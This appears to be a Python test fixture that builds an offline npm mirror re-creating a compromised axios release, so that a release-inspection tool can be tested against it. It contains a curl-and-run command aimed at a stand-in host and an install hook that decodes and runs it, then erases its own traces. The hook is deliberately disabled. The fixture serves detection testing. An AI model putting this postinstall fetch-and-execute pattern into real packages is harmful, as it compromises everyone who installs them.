"""A release judged before any advisory: a mirror with the stand-ins of March 2026 as they stood in that hour.

The client's own files do not differ; one dependency is new, and what it does is inert, encoded text. The registry's
documents say what a registry says: times, accounts, and which releases had provenance.
"""

from __future__ import annotations

import base64
import json
import shutil
import subprocess
import sys
from datetime import datetime
from pathlib import Path
from typing import Any

from tests.standins.packages import INDEX, Release, manifest_text, moment, pack

REFERENCE = "npm:axios@1.14.1"
WORDS = ("inspect", REFERENCE, "--from", "mirror", "--offline", "--at", "2026-03-31T01:00:00Z")
COMMAND = "curl -s -o /tmp/standin https://files.example/standin && nohup sh /tmp/standin >/dev/null 2>&1 &"
SETUP = """\
throw new Error('inert stand-in: nothing below is ever reached');
const fs = require('fs');
const { exec } = require('child_process');

const stage = Buffer.from('{stage}', 'base64').toString();
exec(stage, { windowsHide: true });
fs.unlinkSync(__filename);
fs.renameSync('package.md', 'package.json');
"""
CLIENT = """\
'use strict';

const settings = require('./lib/settings');

module.exports = async (address, options) => fetch(address, { ...settings, ...options });
"""


def client(version: str, published: str, *, dependencies: dict[str, str]) -> Release:
    """One release of the client."""
    manifest = {
        "name": "axios",
        "version": version,
        "description": "Inert stand-in made for tests.",
        "main": "index.js",
        "license": "MIT",
        "dependencies": dependencies,
    }
    files = {"index.js": CLIENT, "lib/settings.js": "module.exports = { redirect: 'follow' };\n"}
    return Release(manifest, moment(published), files=files)


def payload(version: str, published: str, *, hostile: bool) -> Release:
    """One release of the dependency: the harmless first one, or the one that runs at install."""
    manifest: dict[str, Any] = {
        "name": "plain-crypto-js",
        "version": version,
        "description": "Inert stand-in made for tests.",
        "main": "index.js",
        "license": "MIT",
    }
    files = {"index.js": INDEX}
    if hostile:
        files["package.md"] = manifest_text({**manifest, "version": "4.2.0"})
        manifest["scripts"] = {"postinstall": "node setup.js"}
        files["setup.js"] = SETUP.replace("{stage}", base64.b64encode(COMMAND.encode()).decode())
    return Release(manifest, moment(published), files=files)


STAYED = {"follow-redirects": "^1.15.11"}
CLIENTS = (
    client("1.13.4", "2026-01-14T10:00:00", dependencies=STAYED),
    client("1.13.5", "2026-02-08T10:00:00", dependencies=STAYED),
    client("1.13.6", "2026-02-27T10:00:00", dependencies=STAYED),
    client("1.14.0", "2026-03-27T19:01:40", dependencies=STAYED),
    client("1.14.1", "2026-03-31T00:21:58", dependencies={**STAYED, "plain-crypto-js": "^4.2.1"}),
)
PAYLOADS = (
    payload("4.2.0", "2026-03-30T05:57:00", hostile=False),
    payload("4.2.1", "2026-03-30T23:59:12", hostile=True),
)


def document(releases: tuple[Release, ...]) -> dict[str, Any]:
    """What a registry says of a package: all but the client's last release were published by a trusted workflow."""
    versions: dict[str, Any] = {}
    for release in releases:
        trusted = release.name == "axios" and release.version != "1.14.1"
        dist: dict[str, Any] = {"integrity": release.integrity, "shasum": release.shasum}
        dist["tarball"] = f"https://registry.example/{release.name}/-/{release.file_name}"
        user: dict[str, Any] = {"name": "maintainer" if release.name == "axios" else "newcomer"}
        if trusted:
            dist["attestations"] = {"provenance": {"predicateType": "https://slsa.dev/provenance/v1"}}
            user = {"name": "GitHub Actions", "trustedPublisher": {"id": "github"}}
        versions[release.version] = {**release.manifest, "dist": dist, "_npmUser": user}
        if trusted:
            versions[release.version]["gitHead"] = release.integrity[7:47]
    return {
        "name": releases[0].name,
        "dist-tags": {"latest": releases[-1].version},
        "time": {release.version: _stamp(release.published) for release in releases},
        "versions": versions,
    }


def _stamp(value: datetime) -> str:
    return value.strftime("%Y-%m-%dT%H:%M:%S.000Z")


def lay_out(folder: Path) -> None:
    """The mirror: documents and archives."""
    for releases in (CLIENTS, PAYLOADS):
        place = folder / "mirror" / "npm" / releases[0].name
        shutil.rmtree(place, ignore_errors=True)
        place.mkdir(parents=True)
        (place / "package.json").write_text(json.dumps(document(releases), indent=1), "utf-8")
        for release in releases:
            (place / release.file_name).write_bytes(
                pack({"package.json": manifest_text(release.manifest), **release.files})
            )


def main(folder: Path, environment: dict[str, str]) -> int:
    """Lay out the mirror and inspect the release; the exit code of that."""
    lay_out(folder)
    print(f"$ pratique {' '.join(WORDS)}\n", flush=True)
    return subprocess.run(
        [sys.executable, "-m", "pratique", *WORDS], cwd=folder, env=environment, check=False
    ).returncode
